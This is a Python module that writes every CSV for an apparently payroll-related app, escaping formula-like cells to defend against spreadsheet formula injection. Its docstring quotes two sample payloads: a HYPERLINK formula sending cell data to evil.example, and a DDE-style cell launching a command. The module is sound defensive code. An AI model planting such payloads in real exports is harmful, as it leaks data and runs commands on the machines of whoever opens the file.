"""Spreadsheet-safe CSV: the one writer for every CSV that TempClock or a plugin writes.

A CSV file is opened in Excel, LibreOffice or Google Sheets, and a cell that begins
with `=`, `+`, `-` or `@` is evaluated there as a formula: a worker named
`=HYPERLINK("http://evil.example/?"&A1, "Payslip")` or a request's user agent
`@SUM(1+1)*cmd|' /C calc'!A0` becomes live when the admin opens the file (OWASP,
"CSV Injection"). Following OWASP's advice, `safe_cell` prefixes such a cell with a
single quote, which the spreadsheet shows as text. A cell also counts as such when
the dangerous character follows blanks, control or invisible characters (some
importers trim them), when it is a tab, carriage return or line feed, or when it is
another form of it (full-width `＝＋－＠`, small `﹦﹢﹣﹫`, which some spreadsheets
read as the ASCII one).

Numbers (`int`, `float`, `Decimal`) are written as they are: a negative number is
data, not a formula, and a payroll file must keep it numeric.
"""

from __future__ import annotations

import csv
import os
import unicodedata
from collections.abc import Iterable, Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any

__all__ = ["safe_cell", "write_csv"]

_NUMBERS = (int, float, Decimal)
_STARTS_A_FORMULA = frozenset("=+-@\t\r\n")
_PASSED_OVER = ("C", "Z", "Mn")  # control, format, blank, combining: some importers drop


def _formula_like(text: str) -> bool:
    """Whether the first character a spreadsheet may look at starts a formula.

    Blanks, control and invisible characters before it are passed over; any other
    form of `=+-@` (full-width `＝`, small `﹦`...) counts as the ASCII one.
    """
    for char in text:
        if char in _STARTS_A_FORMULA:
            return True
        if unicodedata.category(char).startswith(_PASSED_OVER):
            continue
        return unicodedata.normalize("NFKC", char) in _STARTS_A_FORMULA
    return False


def safe_cell(value: Any) -> Any:
    """`value` as a CSV cell no spreadsheet evaluates: formula-like text gets a leading `'`.

    `None` is an empty cell; `int`, `float` and `Decimal` stay numbers; anything else
    is written as its text.
    """
    if value.__class__ is not str:  # text first: it is most cells, and the only danger
        if value is None:
            return ""
        if isinstance(value, _NUMBERS):
            return value
        value = str(value)
    if value and not value[0].isalnum() and _formula_like(value):
        return "'" + value
    return value


def write_csv(path: str | os.PathLike[str], header: Sequence[Any],
              rows: Iterable[Sequence[Any]]) -> int:
    """Write `header` and `rows` to the CSV file at `path`, every cell through `safe_cell`.

    The file (UTF-8, comma-separated, quoted where needed) is written beside its
    final name as `<name>.part` and moved into place once complete, so a reader never
    finds half a file; if writing fails or `rows` raises, the part file is removed,
    any earlier file at `path` stays as it was, and the error propagates.
    Returns the number of rows written (the header not counted).
    """
    target = Path(path)
    part = target.with_name(target.name + ".part")
    written = 0
    try:
        with part.open("w", newline="", encoding="utf-8") as handle:
            out = csv.writer(handle)
            out.writerow(list(map(safe_cell, header)))
            for row in rows:
                out.writerow(list(map(safe_cell, row)))
                written += 1
            handle.flush()
            os.fsync(handle.fileno())
        part.replace(target)
    except BaseException:
        part.unlink(missing_ok=True)
        raise
    return written
